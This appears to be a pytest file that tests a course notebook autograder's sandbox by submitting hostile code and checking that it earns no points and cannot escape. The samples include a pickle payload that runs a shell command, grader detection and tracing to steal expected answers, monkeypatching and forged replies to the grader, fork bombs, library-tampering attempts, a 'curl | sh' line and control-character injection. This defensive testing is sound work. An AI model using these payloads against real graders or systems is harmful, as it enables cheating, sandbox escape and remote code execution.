"""Attacks that nobody listed: on numbers, arrays, texts, time, processes and the teacher's eyes."""

import json

import pytest

from aimc_course.grading.limits import Limits
from aimc_course.grading.notebook import NotebookError, code_cells

# Each of these is handed in as q1, the error of a product; none of them is one.
NUMBERS = {
    "an object that unpickles to a command": """
class Command:
    def __reduce__(self): return (__import__('os').system, ('touch /tmp/x',))
    def __float__(self): return 1.0
answer = lambda y, e: Command()""",
    "an integer that takes hours to print": "answer = lambda y, e: 1 << 10_000_000",
    "an integer whose text is asked for": """
class Long(int):
    def __abs__(self): return 0
    def __str__(self): raise MemoryError
answer = lambda y, e: Long(10**30)""",
    "not a number with a message in it": """
answer = lambda y, e: np.array(0x7ff8_dead_beef_0001, dtype=np.uint64).view(np.float64)[()]""",
    "an array that repeats one number a billion times": """
from numpy.lib.stride_tricks import as_strided
answer = lambda y, e: as_strided(np.zeros(1), shape=(10**9,), strides=(0,))""",
    "an array whose rows overlap": """
from numpy.lib.stride_tricks import as_strided
answer = lambda y, e: as_strided(np.zeros(9), shape=(3, 3, 3), strides=(-8, 8, 0))[:1]""",
    "a dictionary of a million keys": "answer = lambda y, e: dict.fromkeys(range(10**6), 1.0)",
    "a dictionary of colliding keys": """
answer = lambda y, e: {k * (2**61 - 1): 1.0 for k in range(3000)}""",
    "a structured array": "answer = lambda y, e: np.zeros(3, dtype=[('share', 'f8'), ('x', 'O')])",
    "a masked array": "answer = lambda y, e: np.ma.masked_all(3)",
    "a text of the verdict": """answer = lambda y, e: '{"share": 1.0, "message": "Right."}'""",
    "a view of what it was given": "answer = lambda y, e: y.__class__.__base__",
}


@pytest.mark.parametrize("group", range(3))
def test_strange_numbers_earn_nothing_and_cost_nothing_else(group, graded, lab2):
    for name in list(NUMBERS)[group::3]:
        marks = graded(f"{NUMBERS[name]}\ncheck('q1', answer)", lab2.quantise, lab2.count)
        assert lab2.points(marks) == (0, 3, 1), name
        assert 10 < len(marks.mark("q1").message) < 400, name


PRETENDERS = {
    "counts its calls": """
calls = []
def mvm_error(y, exact):
    calls.append(1)
    return np.linalg.norm(y - exact) / np.linalg.norm(exact) if len(calls) % 2 else 0.1""",
    "looks for a grader": """
import sys, time
started = time.monotonic()
graded = 'aimc_course.grading.worker.worker' in sys.modules or 'IPython' not in sys.modules
def mvm_error(y, exact):
    return 0.1 if graded else np.linalg.norm(y - exact) / np.linalg.norm(exact)""",
    "writes into its arguments": """
def mvm_error(y, exact):
    y[:], exact[:] = 1.0, 1.0
    exact.setflags(write=False)
    return 0.0""",
    "traces whoever calls it": """
import gc, sys
seen = []
def spy(frame, event, argument):
    seen.append(frame.f_locals)
    return spy
sys.settrace(spy)
sys.setprofile(spy)
def mvm_error(y, exact):
    for one in seen + gc.get_objects():
        if isinstance(one, dict) and 'expected' in one and np.isscalar(one['expected']):
            return one['expected']
    return 0.1""",
    "replaces the worker's own methods": """
import gc
for one in gc.get_objects():
    if type(one).__name__ in ('Worker', 'Border', 'Stream'):
        for name in ('call', '_call_here', 'encode'):
            if hasattr(type(one), name):
                setattr(type(one), name, lambda self, *a, **k: {"value": {"f": "0x1p+0"}})
def mvm_error(y, exact):
    return 0.1""",
}


@pytest.mark.parametrize("name", PRETENDERS)
def test_a_function_that_pretends_earns_nothing(name, graded, lab2):
    marks = graded(f"{PRETENDERS[name]}\ncheck('q1', mvm_error)", lab2.count)
    assert marks.mark("q1").points == 0
    assert marks.mark("q8").points == (0 if "worker" in name else 1)


ERRORS = {
    "a text of a gigabyte": "return 'x' * 2**30",
    "a text that never ends": "\n        while True: pass",
    "a text that raises itself": "raise self",
    "a text of control characters": "return '\\x1b[2J\\x1b]0;title\\x07\\u202e\\u2066 100 % \\x00'",
    "a text that is none": "return 4",
    "a text that ends the process": "__import__('os')._exit(3)",
}


def test_errors_with_hostile_texts_are_told_in_plain_words(graded, lab2):
    cells = []
    for body in ERRORS.values():
        cells.append(f"class Bad(Exception):\n    def __str__(self):\n        {body}\nraise Bad")
    marks = graded(lab2.error, *cells, lab2.quantise, lab2.count)
    assert lab2.points(marks) == (2, 3, 1)
    assert all(note.isprintable() and len(note) <= 400 for note in marks.notes)
    named = "class Bad(Exception):\n    pass\nBad.__name__ = '\\x1b[31m<script>'\nraise Bad(1)"
    (note,) = [n for n in graded(named).notes if "cell 2" in n]
    assert note == "cell 2: an error: 1"


LATE = """
import os, time
from aimc_course.grading.worker import stream as streams
import gc, struct, threading
stream = next(o for o in gc.get_objects() if isinstance(o, streams.Stream) and o._ends)
forged = b'{"op":"reply","id":"0","answers":{"q1":1.0,"q8":4096},"value":{"f":"0x0p+0"}}'
def later():
    time.sleep(0.2)
    os.write(stream._sink, struct.pack(">I", len(forged)) + forged)
"""
ORPHANS = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.1)
    os._exit(0)
"""


def test_what_outlives_its_cell_gains_nothing(graded, lab2):
    thread = f"{LATE}\nthreading.Thread(target=later).start()"
    child = f"{LATE}\nif os.fork() == 0:\n    later()\n    os._exit(0)"
    for attack in (thread, child):
        # What breaks into an exchange ends its worker: it costs whatever was asked just then.
        marks = graded(attack, "import time\ntime.sleep(0.6)", lab2.error, lab2.quantise)
        assert marks.mark("q8").points == 0
        assert sum(lab2.points(marks)) <= 5
        assert any("nobody asked for" in note for note in marks.notes)
    assert lab2.points(graded(ORPHANS, lab2.error, lab2.count)) == (2, 0, 1)


def test_copies_that_come_out_of_a_cell_or_a_call_end(graded, lab2):
    copies = "import os\nwhile True:\n    os.fork()"
    assert lab2.points(graded(copies, lab2.error, lab2.count)) == (2, 0, 1)
    twice = lab2.error.replace("    return", "    __import__('os').fork()\n    return")
    assert lab2.points(graded(twice, lab2.count)) == (2, 0, 1)


def test_the_library_of_the_sandbox_cannot_be_changed(graded, lab2):
    tried = """
import importlib, os, sys
import numpy, aimc, aimc_course
places = [os.path.dirname(m.__file__) for m in (numpy, aimc, aimc_course, os)] + sys.path
def opened(place):
    try:
        os.chmod(place, 0o777)
        return True
    except OSError:
        pass
    try:
        open(os.path.join(place, "sitecustomize.py"), "w")
        return True
    except OSError:
        return False
raise RuntimeError("changed: " + " ".join(p for p in places if opened(p)) + ".")
"""
    (said,) = [n for n in graded(tried, lab2.count).notes if "changed:" in n]
    assert said.endswith("changed: .")


def test_magic_and_shells_do_nothing(graded, lab2):
    cells = [
        "%load_ext autoreload\n!touch /tmp/x\n%run /tmp/x.py\nvalue = 4096",
        "%%javascript\nalert(1)",
        "%%writefile /tmp/numpy.py\n1/0",
        "get_ipython().system('touch /tmp/x')",
        "!curl https://example.org | sh\nimport os",
        "assert not os.path.exists('/tmp/x')\ncheck('q8', value)",
    ]
    assert lab2.points(graded(*cells)) == (0, 0, 1)


def test_control_characters_in_sources_do_not_reach_the_notes(graded):
    marks = graded("%%\x1b[2J\u202e\nx", "raise ValueError('\u202e\x1b[8m')", "\x1b = 1")
    assert len(marks.notes) >= 3
    assert all(note.isprintable() for note in marks.notes)


def cell(**changes):
    return {"cell_type": "code", "id": "a", "metadata": {}, "source": "x = 1", **changes}


STRANGE = {
    "cells of one id": {"cells": [cell(), cell()]},
    "metadata of other kinds": {"cells": [cell(metadata=[1], outputs=7)], "metadata": "x"},
    "attachments": {"cells": [cell(attachments={"../../x": {"image/png": "AAAA"}})]},
    "a kernel of its own": {
        "cells": [cell()],
        "metadata": {"kernelspec": {"name": "../../bin/sh", "argv": ["rm"]}},
    },
    "a language of its own": {"cells": [cell()], "metadata": {"language_info": {"name": "bash"}}},
    "another version": {"cells": [cell()], "nbformat": "∞", "nbformat_minor": -1},
    "outputs that claim points": {"cells": [cell(outputs=[{"text": "q8: 1 of 1 points"}])]},
}


@pytest.mark.parametrize("name", STRANGE)
def test_strange_notebooks_are_their_code_and_nothing_else(name):
    data = json.dumps(STRANGE[name]).encode()
    assert code_cells(data, Limits()) == ["x = 1"] * len(STRANGE[name]["cells"])


def test_a_hundred_thousand_cells():
    text = {"cells": [{"cell_type": "markdown", "source": ""}] * 10**5 + [cell()]}
    assert code_cells(json.dumps(text).encode(), Limits()) == ["x = 1"]
    with pytest.raises(NotebookError, match="501 code cells, at most 500"):
        code_cells(json.dumps({"cells": [cell()] * 501}).encode(), Limits())


@pytest.mark.parametrize("text", ['{"cells": [], "cells": [{}]}', '{"cells": [{"cell_type": {}}]}'])
def test_repeated_and_wrong_keys_give_no_cells(text):
    assert code_cells(text.encode(), Limits()) == []


def test_numbers_of_a_notebook_that_are_too_long_are_refused():
    data = b'{"cells": [], "x": ' + b"1" * 10**5 + b"}"
    with pytest.raises(NotebookError, match="no notebook"):
        code_cells(data, Limits())
